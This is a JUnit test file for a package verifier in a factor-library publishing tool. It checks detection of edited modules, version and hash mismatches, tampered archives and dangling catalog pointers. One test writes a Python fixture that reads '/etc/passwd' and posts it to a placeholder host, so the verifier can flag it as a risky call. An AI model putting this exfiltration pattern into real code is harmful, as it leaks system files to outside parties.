package rdresults.factorlib;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import rdresults.factorlib.VerifyReport.ProblemKind;
import rdresults.factorlib.VerifyReport.RiskCategory;
import rdresults.registry.RegistryReader;

class PackageVerifierTest {

    @TempDir
    Path dir;
    SampleRepo repo;
    Path lib;
    FactorPackage pkg;
    Path metaA;

    @BeforeEach
    void publishOneLoop() {
        repo = SampleRepo.copyTo(dir);
        lib = dir.resolve("lib");
        pkg = FactorPackage.init(lib, FactorPackage.INITIAL_VERSION, FactorPackageTest.FIXED);
        metaA = repo.workspace(SampleRepo.META_A).resolve("factor_meta.json");
        try (RegistryReader registry = repo.openRegistry()) {
            FactorPublisher.create(pkg, registry, repo.locator())
                    .publish(PublishRequest.loops(List.of(SampleRepo.ACCEPTED_A), Bump.PATCH));
        }
    }

    private VerifyReport verify(Path... catalogs) {
        return PackageVerifier.verify(lib, List.of(catalogs));
    }

    private static List<ProblemKind> kinds(VerifyReport r) {
        return r.problems().stream().map(VerifyReport.Problem::kind).toList();
    }

    @Test
    void freshPackageAndItsPointersAgree() {
        VerifyReport r = verify(metaA);
        assertThat(r.ok()).isTrue();
        assertThat(r.version()).hasToString("0.1.1");
        assertThat(r.warnings()).isEmpty();
    }

    @Test
    void detectsAnEditedGeneratedModule() {
        Path generated = lib.resolve("rd_factors_lib/generated.py");
        SampleRepo.write(generated, SampleRepo.read(generated).replace("close.shift(60)", "close.shift(61)"));
        VerifyReport r = verify();
        assertThat(kinds(r)).contains(ProblemKind.GENERATED_MISMATCH, ProblemKind.ARCHIVE_MISMATCH);
        assertThat(r.problems()).filteredOn(p -> p.kind() == ProblemKind.GENERATED_MISMATCH).singleElement()
                .satisfies(p -> assertThat(p.message()).contains("first at line"));
        assertThat(r.problems()).filteredOn(p -> p.kind() == ProblemKind.ARCHIVE_MISMATCH)
                .anySatisfy(p -> assertThat(p.message()).contains("rd_factors_lib/generated.py"));
    }

    @Test
    void detectsAVersionMismatch() {
        SampleRepo.write(lib.resolve("rd_factors_lib/VERSION"), "0.1.0\n");
        VerifyReport r = verify();
        assertThat(kinds(r)).contains(ProblemKind.VERSION_MISMATCH);
        assertThat(r.problems()).filteredOn(p -> p.kind() == ProblemKind.VERSION_MISMATCH).singleElement()
                .satisfies(p -> assertThat(p.message()).isEqualTo(
                        "manifest.json is version 0.1.1 but VERSION is 0.1.0"));
    }

    @Test
    void detectsAMalformedVersion() {
        SampleRepo.write(lib.resolve("rd_factors_lib/VERSION"), "20260112\n");
        assertThat(kinds(verify())).contains(ProblemKind.VERSION_INVALID);
    }

    @Test
    void detectsAMissingArchive() throws Exception {
        Files.delete(lib.resolve("versions/0.1.1.zip"));
        VerifyReport r = verify(metaA);
        assertThat(kinds(r)).contains(ProblemKind.ARCHIVE_MISSING, ProblemKind.DANGLING_POINTER);
    }

    @Test
    void detectsATamperedArchive() throws Exception {
        Path zip = lib.resolve("versions/0.1.0.zip");
        byte[] bytes = Files.readAllBytes(zip);
        bytes[bytes.length / 2] ^= 1;
        Files.write(zip, bytes);
        VerifyReport r = verify();
        assertThat(r.problems()).anySatisfy(p -> {
            assertThat(p.kind()).isEqualTo(ProblemKind.ARCHIVE_MISMATCH);
            assertThat(p.message()).contains("0.1.0.zip does not match its recorded sha256");
        });
    }

    @Test
    void detectsASourceThatNoLongerMatchesItsHash() {
        Path manifest = lib.resolve("rd_factors_lib/manifest.json");
        SampleRepo.write(manifest, SampleRepo.read(manifest).replace("close.shift(60)", "close.shift(61)"));
        assertThat(kinds(verify())).contains(ProblemKind.FUNCTION_INVALID, ProblemKind.GENERATED_MISMATCH);
    }

    @Test
    void detectsDanglingPointers() throws Exception {
        repo.addFactor(metaA, "Ghost", "never published");
        Path catalog = dir.resolve("factor_catalog.json");
        SampleRepo.write(catalog, """
                {"version": "v1", "factors": [
                  {"name": "Volume_Spike_5D", "impl_module": "rd_factors_lib.generated",
                   "impl_func": "factor_volume_spike_5d", "impl_version": "0.1.1"},
                  {"name": "Volume_Spike_5D", "impl_module": "rd_factors_lib.generated",
                   "impl_func": "factor_volume_spike_5d", "impl_version": "0.1.0"},
                  {"name": "Old", "impl_module": "rd_factors_lib.generated", "impl_func": "Old",
                   "impl_version": "20251013"},
                  {"name": "Future", "impl_module": "rd_factors_lib.generated", "impl_func": "factor_future",
                   "impl_version": "9.9.9"},
                  {"name": "Other", "impl_module": "rd_factors_lib.alpha158", "impl_func": "f", "impl_version": "0.1.1"},
                  {"name": "Upper_Shadow_Ratio_10D", "impl_module": "rd_factors_lib.generated",
                   "impl_func": "factor_volume_spike_5d", "impl_version": "0.1.1"},
                  {"name": "NoPointer"}
                ]}
                """);
        VerifyReport r = verify(metaA, catalog);
        assertThat(r.problems()).allSatisfy(p -> {
            assertThat(p.kind()).isEqualTo(ProblemKind.DANGLING_POINTER);
            assertThat(p.path()).isEqualTo(catalog);
        }).extracting(VerifyReport.Problem::message).satisfiesExactly(
                m -> assertThat(m).contains("@ 0.1.0 names a function that version 0.1.0 does not have"),
                m -> assertThat(m).contains("factor Future", "has not committed"),
                m -> assertThat(m).contains("factor Other", "rd_factors_lib.alpha158.f @ 0.1.1",
                        "names a function that version 0.1.1 does not have"),
                m -> assertThat(m).contains("factor Upper_Shadow_Ratio_10D", "function of factor Volume_Spike_5D"));
        assertThat(r.legacyPointers()).isEqualTo(1);
    }

    @Test
    void dateStylePointersOfUnpublishedLoopsAreHistoryNotProblems() {
        Path rejected = repo.workspace("8dc9ae336f6b404bae28df66d92a7fc2").resolve("factor_meta.json");
        VerifyReport r = verify(rejected);
        assertThat(r.problems()).isEmpty();
        assertThat(r.legacyPointers()).isEqualTo(3);
        assertThat(r.ok()).isTrue();
    }

    @Test
    void unreadableCatalogIsAProblem() {
        Path bad = dir.resolve("bad.json");
        SampleRepo.write(bad, "{not json");
        assertThat(kinds(verify(bad, dir.resolve("missing.json"))))
                .containsExactly(ProblemKind.CATALOG_INVALID, ProblemKind.CATALOG_INVALID);
    }

    @Test
    void listsRiskyCallsAsWarnings() {
        repo.addFactor(metaA, "Leaky", "reads a file and calls out");
        SampleRepo.write(repo.workspace("0f56504d83ee41e39744af9b052ddbdc").resolve("leaky.py"), String.join("\n",
                "import pandas as pd",
                "import requests",
                "",
                "def calculate_Leaky():",
                "    df = pd.read_hdf(\"daily_pv.h5\", key=\"data\")",
                "    secret = open('/etc/passwd').read()",
                "    requests.post('http://example.invalid', data=secret)",
                "    df.to_hdf(\"result.h5\", key=\"data\")",
                ""));
        try (RegistryReader registry = repo.openRegistry()) {
            FactorPublisher.create(pkg, registry, repo.locator())
                    .publish(PublishRequest.loops(List.of(SampleRepo.ACCEPTED_A), Bump.PATCH));
        }
        VerifyReport r = verify(metaA);
        assertThat(r.ok()).isTrue();
        assertThat(r.warnings()).allSatisfy(w -> assertThat(w.func()).isEqualTo("factor_leaky"))
                .extracting(VerifyReport.RiskWarning::line, VerifyReport.RiskWarning::category)
                .containsExactlyInAnyOrder(
                        org.assertj.core.groups.Tuple.tuple(2, RiskCategory.IMPORT),
                        org.assertj.core.groups.Tuple.tuple(2, RiskCategory.NETWORK),
                        org.assertj.core.groups.Tuple.tuple(6, RiskCategory.FILE),
                        org.assertj.core.groups.Tuple.tuple(7, RiskCategory.NETWORK));
    }

    @Test
    void reportsOrphanArchivesOfAnUnfinishedPublish() {
        SampleRepo.write(lib.resolve("versions/0.1.2.zip"), "partial");
        assertThat(kinds(verify())).containsExactly(ProblemKind.ORPHAN_ARCHIVE);
    }

    @Test
    void refusesAFolderWithoutPackage() {
        assertThatThrownBy(() -> PackageVerifier.verify(dir.resolve("nothing"), List.of()))
                .isInstanceOf(NotAPackageException.class);
    }
}
